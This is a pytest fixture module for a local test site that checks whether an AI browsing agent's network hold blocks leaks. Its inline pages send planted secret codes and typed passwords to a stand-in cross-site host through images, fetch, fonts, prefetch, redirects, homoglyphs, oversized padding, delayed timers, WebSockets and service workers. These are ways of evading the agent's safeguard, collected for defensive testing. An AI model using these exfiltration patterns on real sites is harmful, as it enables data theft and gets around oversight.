"""A small site for the network-hold tests: inline pages served on 127.0.0.1 (and as localhost, a second site),
and a log of every request that reached it, so a test proves a denied request never arrived.

Routes: `/p/<name>` an inline page (PAGES), `/worker.js` a worker that POSTs what it is told, `/redirect?to=URL`
a 302, `/ws` a WebSocket whose text messages are logged (method "WS"), anything else answers 200 `{"ok": true}`
(GET, POST, PUT, DELETE alike) and is logged.
"""

from __future__ import annotations

import base64
import hashlib
import json
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

SECRET = "ZX44719920QQ"
"""What the first site shows the task (a code: data by app.safety.dataflow's rules)."""
CASE_SECRET = "qWmZbXkRt"
FRAME_SECRET = "QX77120453ZK"
"""A code that only the other site's frame on the `framed` page shows."""
FRAME_FIELD_SECRET = "GC88301475XY"
"""A code that only a field's name says, in the other site's frame on the `framed-more` page (the element index)."""
FRAME_LATER_SECRET = "TR55409126KQ"
"""A code the other site's frame on the `framed-more` page shows once its button is pressed (a change list)."""
"""A code of letters only, data by its letter case alone (an upper-case letter right after a lower-case one)."""
SENTENCE = "The vault moves to the north dock at noon on Friday"
"""A sentence the `exfil` page shows the task (data by its words alone: no digits, no code)."""
HOMOGLYPH_SECRET = SECRET.replace("X", "\u0425").replace("Q", "\u051a")
"""SECRET written with Cyrillic look-alikes (Kha for X, Qa for Q)."""
PADDING = 70_000
"""Characters of padding before the data in a padded body: past the 64 KB the hold used to judge."""
LATER_MS = 4500
"""How long the "later" buttons wait before their page sends: past any window an action's hold kept open."""

_SCRIPT = """
<script>
const out = (t) => { document.getElementById('status').textContent = t; };
async function send(url, init) {
  try { const r = await fetch(url, init); out('sent ' + r.status); } catch (e) { out('failed ' + e.message); }
}
</script>
"""

PAGES: dict[str, str] = {
    "post": _SCRIPT + """<title>Notes</title><h1>Notes</h1>
<button id="note" onclick="send('/api/notes', {method: 'POST', body: JSON.stringify({note: 'hello there'})})">Save note</button>
<button id="go" onclick="send('/api/v1/checkout', {method: 'POST', headers: {'content-type': 'application/json'},
  body: JSON.stringify({items: [3]})})">Next</button>
<button id="xhr" onclick="const x = new XMLHttpRequest(); x.open('DELETE', '/api/items/3');
  x.onload = () => out('sent ' + x.status); x.onerror = () => out('failed xhr'); x.send();">Tidy</button>
<button id="card" onclick="send('/api/notes', {method: 'POST', body: 'n=4111 1111 1111 1111'})">Keep</button>
<button id="look" onclick="fetch('/collect?e=look&t=' + Date.now()); new Image().src = '/pixel.gif?e=look'; out('looked')">Look</button>
<button id="pay" onclick="send('/api/pay', {method: 'POST', body: 'amount=12'})">Pay now</button>
<button id="beacon" onclick="navigator.sendBeacon('/api/messages/send', 'to=ana&text=hi'); out('beaconed')">Ping</button>
<button id="later" onclick="setTimeout(() => send('/api/pay', {method: 'POST', body: 'amount=15'}), 1500); out('soon')">Later</button>
<button id="beacon-plain" onclick="navigator.sendBeacon('/stats', 'e=view'); out('beaconed')">Stats</button>
<p>Status: <span id="status">idle</span></p>""",
    "bench": """<title>Bench</title><h1>Bench</h1><p>Count: <span id="n">0</span></p>
<button id="count" onclick="n.textContent = +n.textContent + 1">Count</button>
<button id="get" onclick="fetch('/api/items?at=' + Date.now()); n.textContent = +n.textContent + 1">Load</button>
<button id="post" onclick="fetch('/api/checkout', {method: 'POST', body: 'items=3'}); n.textContent = +n.textContent + 1">Next</button>
<button id="tab-post" onclick="if (window.benchTab) window.benchTab.close(); const name = 'w' + Math.random();
  window.benchTab = window.open('about:blank', name); const f = document.createElement('form'); f.method = 'post';
  f.action = '/api/checkout/tab'; f.target = name; f.innerHTML = '<input name=items value=3>'; document.body.append(f);
  f.submit(); f.remove()">Open</button>
<input id="q" aria-label="Search">""",
    "form": """<title>Form</title><h1>Form</h1>
<form method="post" action="/orders/new"><input name="item" value="teapot"><button id="next">Next</button></form>
<p>Status: <span id="status">idle</span></p>""",
    "frames": _SCRIPT + """<title>Frames</title><h1>Frames</h1>
<iframe id="same" src="/p/frame-inner" width="300" height="80"></iframe>
<iframe id="cross" src="CROSS/p/frame-inner" width="300" height="80"></iframe>
<button id="same-go" onclick="document.getElementById('same').contentWindow.postMessage('go', '*'); out('asked')">Inner</button>
<button id="cross-go" onclick="document.getElementById('cross').contentWindow.postMessage('go', '*'); out('asked')">Outer</button>
<button id="worker-go" onclick="w.postMessage(location.origin + '/api/transfer'); out('asked')">Work</button>
<script>const w = new Worker('/worker.js');</script>
<p>Status: <span id="status">idle</span></p>""",
    "spawn": _SCRIPT + """<title>Spawn</title><h1>Spawn</h1>
<button id="spawn-frame" onclick="const f = document.createElement('iframe'); f.src = 'CROSS/p/eager-frame';
  document.body.append(f); out('framed')">Open panel</button>
<button id="spawn-worker" onclick="new Worker('/eager-worker.js'); out('working')">Start</button>
<p>Status: <span id="status">idle</span></p>""",
    "words": _SCRIPT + """<title>Laden</title><h1>Laden</h1>
<button id="de" onclick="send('/de/bezahlen', {method: 'POST', body: 'betrag=12'})">Weiter</button>
<button id="ru" onclick="send('/ru/oplata', {method: 'POST', body: 'summa=12'})">Далее</button>
<button id="fr" onclick="send('/api/items/3/supprimer', {method: 'POST'})">Suivant</button>
<button id="es" onclick="send('/api/guardar', {method: 'POST', body: JSON.stringify({pagar: true})})">Siguiente</button>
<button id="plain" onclick="send('/de/notizen', {method: 'POST', body: 'text=bezahlen'})">Speichern</button>
<p>Status: <span id="status">idle</span></p>""",
    "sw": _SCRIPT + """<title>Offline</title><h1>Offline</h1>
<button id="sw-go" onclick="navigator.serviceWorker.ready.then((r) => r.active.postMessage(location.origin + '/api/transfer'));
  out('asked')">Sync</button>
<button id="sw-later" onclick="setTimeout(() => navigator.serviceWorker.ready.then((r) =>
  r.active.postMessage(location.origin + '/api/transfer')), LATER_MS); out('soon')">Sync later</button>
<script>navigator.serviceWorker.register('/sw.js');</script>
<p>Status: <span id="status">idle</span></p>""",
    "popup": """<title>Basket</title><h1>Basket</h1>
<form id="pay" method="post" action="/api/next" target="_blank"><input type="hidden" name="n"></form>
<button id="blank-post" onclick="const f = document.getElementById('pay'); f.n.value = '4111 1111 1111 1111';
  f.submit()">Next</button>
<form id="named" method="post" action="/api/next" target="w2"><input type="hidden" name="n"></form>
<button id="open-submit" onclick="window.open('about:blank', 'w2'); const f = document.getElementById('named');
  f.n.value = '5555 5555 5555 4444'; f.submit()">Continue</button>
<a id="blank-get" href="/land?from=basket" target="_blank">Delivery times</a>
<form method="post" action="/api/notes" target="_blank"><input name="note" value="hello"><button id="blank-plain">Keep</button></form>
<button id="open-early" onclick="window.open('/p/early-post')">Notes</button>
<button id="open-notes" onclick="window.open('/p/notes-popup')">Open notes</button>""",
    "early-img": f"""<title>Photos</title><img src="CROSS/early/px.gif?d={SECRET}" alt="">""",
    "early-fetch": f"""<title>Activity</title><script>fetch('CROSS/early/collect?d={SECRET}', {{mode: 'no-cors'}})
  .catch(() => {{}});</script>""",
    "early-hash": """<title>Badge</title><script>new Image().src = 'CROSS/early/badge.gif?d=' + location.hash.slice(1);</script>""",
    "early-post": """<title>Early</title><p>Saving</p>
<script>fetch('/api/drafts/early', {method: 'POST', body: 'note=hello'})
  .then((r) => { document.title = 'early sent ' + r.status; }, () => { document.title = 'early failed'; });</script>""",
    "socket": """<title>Chat</title><h1>Chat</h1>
<script>const ws = new WebSocket('ws://' + location.host + '/ws'); ws.onopen = () => { document.title = 'Chat open'; };</script>
<button id="ws-card" onclick="ws.send(JSON.stringify({note: '4111 1111 1111 1111'}))">Next</button>
<button id="ws-pass" onclick="ws.send(JSON.stringify({password: 'hunter2'}))">Keep</button>
<button id="ws-plain" onclick="ws.send(JSON.stringify({note: 'hello there'}))">Say</button>""",
    "later": _SCRIPT + """<title>Drafts</title><h1>Drafts</h1>
<button id="late-pay" onclick="setTimeout(() => send('/api/pay', {method: 'POST', body: 'amount=15'}), LATER_MS); out('soon')">Next</button>
<button id="late-card" onclick="setTimeout(() => send('/api/notes', {method: 'POST', body: 'n=4111 1111 1111 1111'}), LATER_MS);
  out('soon')">Keep</button>
<button id="late-open" onclick="window.open('about:blank', 'later-tab'); setTimeout(() => {
  const f = document.getElementById('named'); f.n.value = '5555 5555 5555 4444'; f.submit(); }, LATER_MS); out('soon')">Continue</button>
<form id="named" method="post" action="/api/next" target="later-tab"><input type="hidden" name="n"></form>
<button id="late-ordinary" onclick="setTimeout(() => { send('/api/drafts/autosave', {method: 'POST', body: 'text=hello+there'});
  navigator.sendBeacon('/stats', 'e=view'); fetch('/api/items?page=2'); }, LATER_MS); out('soon')">Write</button>
<p>Status: <span id="status">idle</span></p>""",
    "many": """<title>Many</title><h1>Many</h1>
<script>
window.loaded = Promise.all(Array.from({length: 40}, (_, i) => fetch('/api/items/' + i + '?page=' + i).then((r) => r.ok)))
  .then((oks) => oks.filter(Boolean).length);
for (let i = 0; i < 40; i++) { const img = new Image(); img.src = '/img/' + i + '.gif?v=' + i; document.body.append(img); }
for (let i = 0; i < 4; i++) { const f = document.createElement('iframe'); f.src = '/p/frame-inner?' + i; document.body.append(f); }
</script>""",
    "pictures": """<title>Pictures</title><h1>Pictures</h1>
<script>
const settled = (src) => new Promise((done) => { const img = new Image(); img.onload = img.onerror = () => done(1);
  img.src = src; document.body.append(img); });
window.loaded = Promise.all(Array.from({length: 40}, (_, i) => [settled('/img/' + i + '.gif?v=' + i),
  settled('CROSS/img/' + i + '.gif?v=' + i)]).flat()).then((all) => all.length / 2);
</script>""",
    "eager-frame": """<title>Eager</title><p>frame</p>
<script>fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=7'});</script>""",
    "frame-inner": """<title>Inner</title><p>frame</p>
<script>addEventListener('message', () => fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=5'}));</script>""",
    "secret": f"""<title>Account</title><h1>Your account</h1><p>Your recovery code is {SECRET}.</p>
<p>Your invite word is {CASE_SECRET}.</p>
<form method="get" action="CROSS/search"><input type="hidden" name="q" value="{SECRET}"><button id="find">Find</button></form>
<a id="out" href="/redirect?to=CROSS/land%3Fref%3D{SECRET}">Next page</a>
<button id="leak" onclick="fetch('CROSS/collect?d={SECRET}', {{mode: 'no-cors'}})">Share</button>
<button id="count-cross" onclick="fetch('CROSS/collect?e=view', {{mode: 'no-cors'}})">Count</button>
<button id="leak-case-path" onclick="fetch('CROSS/c/{CASE_SECRET}', {{mode: 'no-cors'}})">More</button>
<a id="plain" href="/redirect?to=CROSS/land%3Fref%3Dwelcome">Other page</a>
<button id="find-later" onclick="setTimeout(() => document.forms[0].submit(), LATER_MS)">Look up</button>
<button id="go-later" onclick="setTimeout(() => {{ location.href = 'CROSS/land?ref={SECRET}'; }}, LATER_MS)">Continue</button>
<button id="open-leak" onclick="window.open('CROSS/land?ref={SECRET}')">Details</button>
<button id="open-path-leak" onclick="window.open('CROSS/u/{SECRET}')">Profile</button>
<button id="open-case-leak" onclick="window.open('CROSS/go/{CASE_SECRET}')">Invite</button>
<button id="open-early-img" onclick="window.open('/p/early-img')">Photos</button>
<button id="open-early-fetch" onclick="window.open('/p/early-fetch')">Activity</button>
<button id="open-early-hash" onclick="window.open('/p/early-hash#{SECRET}')">Badge</button>
<button id="open-path-digits" onclick="window.open('CROSS/guides/2024/delivery')">Guide</button>
<button id="open-path-words" onclick="window.open('CROSS/help/delivery-times')">Help</button>""",
}
PAGES["exfil"] = _SCRIPT + f"""<title>Vault</title><h1>Vault</h1><p>Your recovery code is {SECRET}.</p>
<p>{SENTENCE}.</p>
<input id="pw" type="password" aria-label="Password">
<button id="img" onclick="new Image().src = 'CROSS/px.gif?d={SECRET}'; out('drawn')">Show</button>
<button id="img-path" onclick="new Image().src = 'CROSS/i/{SECRET}.gif'; out('drawn')">Picture</button>
<button id="script" onclick="const s = document.createElement('script'); s.src = 'CROSS/s.js?d={SECRET}';
  document.body.append(s); out('scripted')">Widget</button>
<button id="style" onclick="const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'CROSS/st.css?d={SECRET}';
  document.head.append(l); out('styled')">Theme</button>
<button id="font" onclick="new FontFace('f', 'url(CROSS/f.woff?d={SECRET})').load().catch(() => {{}}); out('fonted')">Font</button>
<button id="prefetch" onclick="const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'CROSS/pf?d={SECRET}';
  document.head.append(l); out('prefetched')">Soon</button>
<button id="img-hop" onclick="new Image().src = '/redirect?to=CROSS/r/{SECRET}'; out('drawn')">Hop</button>
<button id="img-homoglyph" onclick="new Image().src = 'CROSS/px.gif?d={HOMOGLYPH_SECRET}'; out('drawn')">Look</button>
<button id="img-plain" onclick="new Image().src = 'CROSS/px.gif?e=view&t=' + Date.now(); out('drawn')">Count</button>
<button id="post-sentence" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors',
  body: 'text=' + encodeURIComponent('fyi: the VAULT moves to the north-dock, at noon on Friday. thanks')}})">Keep</button>
<button id="post-plain" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors', body: 'text=see+you+on+friday'}})">Save</button>
<button id="post-padded" onclick="send('/api/notes', {{method: 'POST', body: 'pad=' + 'x'.repeat({PADDING}) + '&n=4111 1111 1111 1111'}})">Store</button>
<button id="post-huge" onclick="send('/api/notes', {{method: 'POST', body: 'pad=' + 'x'.repeat(1200000)}})">Upload</button>
<button id="post-pw" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors', body: 'n=' + encodeURIComponent(pw.value)}})">Next</button>
<p>Status: <span id="status">idle</span></p>"""
PAGES["framed"] = f"""<title>Orders</title><h1>Orders</h1><p>Your orders, as the shop's frame shows them.</p>
<iframe id="shop" src="CROSS/p/frame-code" width="400" height="80"></iframe>
<button id="code-to-frame-site" onclick="fetch('CROSS/track?d={FRAME_SECRET}', {{mode: 'no-cors'}})">Track</button>
<button id="code-to-page-site" onclick="fetch('/api/notes', {{method: 'POST', body: 'note={FRAME_SECRET}'}})">Keep</button>"""
PAGES["frame-code"] = f"""<title>Shop</title><p>Order code {FRAME_SECRET} ships today.</p>"""
FRAME_WAIT_SECRET = "VC55120983MQ"
"""The id of a button in the other site's frame on `framed-more`: only a wait_for on it says it (its description)."""
FRAME_SELECT_SECRET = "SL66230194NR"
"""The id of another button there: only a select_text of it says it (the element it selected)."""
FRAME_TIMEOUT_SECRET = "WT77340218PL"
"""The id of a third button there: only a wait_for on it that times out says it (its error quotes what it saw)."""
FRAME_RENEW_SECRET = "RN44120987TX"
"""The name of a button there that renders itself again when pressed: a stale uid's error quotes it."""
FRAME_DRAG_SECRET = "DG38840172WV"
"""The id of a grip there: only a drag of it says it (what it dragged)."""
FRAME_PANEL_SECRET = "PN61730248HD"
"""The heading of a long panel there that its button closes: extract says it, and the change list names the
panel by it (`- section "…" removed`)."""
FRAME_MORE_CODES = {"panel": FRAME_PANEL_SECRET, "drag": FRAME_DRAG_SECRET, "renew": FRAME_RENEW_SECRET, "gift": FRAME_FIELD_SECRET, "later": FRAME_LATER_SECRET, "wait": FRAME_WAIT_SECRET,
                    "select": FRAME_SELECT_SECRET, "timeout": FRAME_TIMEOUT_SECRET}
"""Each code of `framed-more`'s frame by its buttons on the page: `#NAME-to-frame-site` sends it back to the frame's
site (localhost), `#NAME-to-page-site` posts it to the page's own (127.0.0.1)."""
PAGES["framed-more"] = """<title>Orders</title><h1>Orders</h1><p>Your gift card and parcel, as the shop's frame shows.</p>
<iframe id="shop" src="CROSS/p/frame-more" width="400" height="160"></iframe>""" + "".join(
    f"""<button id="{name}-to-frame-site" onclick="fetch('CROSS/track?{name}={code}', {{mode: 'no-cors'}})">Track {n}</button>
<button id="{name}-to-page-site" onclick="fetch('/api/notes', {{method: 'POST', body: 'note={code}'}})">Keep {n}</button>"""
    for n, (name, code) in enumerate(FRAME_MORE_CODES.items()))
PAGES["frame-more"] = f"""<title>Shop</title><input aria-label="Gift card {FRAME_FIELD_SECRET}">
<button onclick="const p = document.createElement('p'); p.textContent = 'Parcel {FRAME_LATER_SECRET} is on its way';
  document.body.append(p)">Show parcel</button>
<button id="{FRAME_WAIT_SECRET}">Voucher</button> <button id="{FRAME_SELECT_SECRET}">Slip</button>
<button id="{FRAME_TIMEOUT_SECRET}">Receipt</button>
<button onclick="this.replaceWith(this.cloneNode(true))">Renew {FRAME_RENEW_SECRET}</button>
<button id="{FRAME_DRAG_SECRET}">Grip</button>
<button onclick="document.getElementById('panel').remove()">Close panel</button>
<section id="panel"><h2>Parcel {FRAME_PANEL_SECRET}</h2>""" + "".join(
    f"<p>Step {n} of the parcel's route</p>" for n in range(1, 8)) + "</section>"
PAGES["commit"] = _SCRIPT + """<title>Plans</title><h1>Plans</h1>
<button id="subscribe" onclick="send('/api/subscriptions', {method: 'POST', headers: {'content-type': 'application/json'},
  body: JSON.stringify({plan: 'pro', period: 'year'})})">Subscribe</button>
<button id="signup-plan" onclick="send('/api/v2/subscribe', {method: 'POST', body: 'plan=team'})">Sign up for plan</button>
<form method="post" action="/bookings/new"><input name="room" value="double"><button id="place-booking">Place booking</button></form>
<button id="book-now" onclick="send('/api/reservations/confirm', {method: 'POST', body: 'slot=mon-10'})">Book now</button>
<button id="renew" onclick="send('/api/renewals', {method: 'POST', headers: {'content-type': 'application/json'},
  body: JSON.stringify({number: '4111 1111 1111 1111', exp: '12/29'})})">Renew</button>
<button id="upgrade" onclick="send('/api/plan', {method: 'PUT', body: 'tier=pro&card=5555555555554444'})">Upgrade</button>
<button id="upgrade-theme" onclick="send('/api/preferences', {method: 'POST', body: 'theme=dark'})">Upgrade</button>
<button id="renew-loan" onclick="send('/api/loans/7/extend', {method: 'POST', body: 'days=14'})">Renew</button>
<button id="book-slots" onclick="send('/api/slots?day=mon')">Book now</button>
<form method="post" action="/api/members"><label>Card number <input name="card_no" autocomplete="cc-number"></label>
  <button id="subscribe-card">Subscribe</button></form>
<p>Status: <span id="status">idle</span></p>"""
"""Generic commit labels (Subscribe, Book now, Renew, Upgrade …) that the label check leaves to what they send."""
PAGES["notes-popup"] = PAGES["post"]
"""The `post` page in a popup the `popup` page opens (a script-opened window, which may close itself)."""
WORKER_JS = "onmessage = (e) => fetch(e.data, {method: 'POST', body: 'amount=9'});"
SW_JS = ("self.addEventListener('activate', (e) => e.waitUntil(clients.claim()));"
         "self.addEventListener('message', (e) => e.waitUntil(fetch(e.data, {method: 'POST', body: 'amount=4'})));")
"""A service worker that POSTs where the page tells it (a page posting through its worker, as background sync does)."""
READY_WORKER_JS = "postMessage('ready');"
EAGER_WORKER_JS = "fetch(location.origin + '/api/transfer', {method: 'POST', body: 'amount=8'});"
"""A worker that sends as soon as it starts: held only if Fetch is on in it before its first line runs."""


@dataclass(frozen=True)
class Received:
    method: str
    host: str
    path: str
    query: dict[str, list[str]]
    body: str


class NetworkSite:
    def __init__(self) -> None:
        self.received: list[Received] = []
        self._lock = threading.Lock()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                site._handle(self)

            do_POST = do_PUT = do_DELETE = do_PATCH = do_GET

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def url(self, path: str, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}{path}"

    def saw(self, path: str, method: str | None = None) -> list[Received]:
        with self._lock:
            return [r for r in self.received if r.path == path and (method is None or r.method == method)]

    def _handle(self, handler: BaseHTTPRequestHandler) -> None:
        parts = urlsplit(handler.path)
        length = int(handler.headers.get("Content-Length") or 0)
        body = handler.rfile.read(length).decode("utf-8", "replace") if length else ""
        if parts.path == "/ws" and (handler.headers.get("Upgrade") or "").lower() == "websocket":
            self._websocket(handler)
            return
        if parts.path.startswith("/p/") and parts.path[3:] in PAGES:
            cross = self.url("", "localhost" if "127.0.0.1" in (handler.headers.get("Host") or "") else "127.0.0.1")
            self._reply(handler, 200, "text/html; charset=utf-8", PAGES[parts.path[3:]].replace("CROSS", cross)
                        .replace("LATER_MS", str(LATER_MS)))
            return
        with self._lock:
            self.received.append(Received(handler.command, handler.headers.get("Host") or "", parts.path,
                                          parse_qs(parts.query), body))
        if parts.path == "/worker.js":
            self._reply(handler, 200, "text/javascript", WORKER_JS)
        elif parts.path == "/sw.js":
            self._reply(handler, 200, "text/javascript", SW_JS)
        elif parts.path == "/ready-worker.js":
            self._reply(handler, 200, "text/javascript", READY_WORKER_JS)
        elif parts.path == "/eager-worker.js":
            self._reply(handler, 200, "text/javascript", EAGER_WORKER_JS)
        elif parts.path == "/redirect":
            handler.send_response(302)
            handler.send_header("Location", parse_qs(parts.query).get("to", ["/"])[0])
            handler.send_header("Content-Length", "0")
            handler.end_headers()
        elif parts.path in ("/orders/new", "/search", "/land"):
            self._reply(handler, 200, "text/html; charset=utf-8", f"<title>done</title><p>Status: {parts.path} done</p>")
        else:
            self._reply(handler, 200, "application/json", json.dumps({"ok": True}))

    def _websocket(self, handler: BaseHTTPRequestHandler) -> None:
        """The handshake (RFC 6455), then each text message the client sends is logged until it closes."""
        key = (handler.headers.get("Sec-WebSocket-Key") or "") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        handler.send_response(101)
        handler.send_header("Upgrade", "websocket")
        handler.send_header("Connection", "Upgrade")
        handler.send_header("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())
        handler.end_headers()
        handler.close_connection = True
        read = handler.rfile.read
        try:
            while True:
                head = read(2)
                if len(head) < 2 or head[0] & 0x0F == 8:
                    return
                length = head[1] & 0x7F
                if length == 126:
                    length = int.from_bytes(read(2), "big")
                elif length == 127:
                    length = int.from_bytes(read(8), "big")
                mask = read(4) if head[1] & 0x80 else b"\0\0\0\0"
                data = bytes(b ^ mask[i % 4] for i, b in enumerate(read(length)))
                with self._lock:
                    self.received.append(Received("WS", handler.headers.get("Host") or "", "/ws", {},
                                                  data.decode("utf-8", "replace")))
        except (ConnectionError, OSError):
            return

    def _reply(self, handler: BaseHTTPRequestHandler, status: int, mime: str, text: str) -> None:
        data = text.encode()
        handler.send_response(status)
        handler.send_header("Content-Type", mime)
        handler.send_header("Content-Length", str(len(data)))
        handler.send_header("Access-Control-Allow-Origin", "*")
        handler.end_headers()
        try:
            handler.wfile.write(data)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def service_worker_ready(act, task_id: str) -> None:
    """Wait, through the task's own evaluate, until the `sw` page's service worker is active (its buttons post to it)."""
    ready = act({"type": "evaluate", "expression": "navigator.serviceWorker.ready.then(() => 'ready')"}, task_id=task_id)
    assert ready.ok and ready.result.get("value") == "ready", ready


@pytest.fixture(scope="module")
def site():
    """The site on 127.0.0.1 and localhost, one per test module."""
    server = NetworkSite()
    yield server
    server.stop()


@pytest.fixture
def open_page(act, site):
    """Navigate a task to one of the site's pages (/p/<name>), on 127.0.0.1 unless `host` says otherwise."""
    def go(name: str, task_id: str, host: str = "127.0.0.1") -> None:
        response = act({"type": "navigate", "url": site.url(f"/p/{name}", host)}, task_id=task_id)
        assert response.ok, response.error
    return go
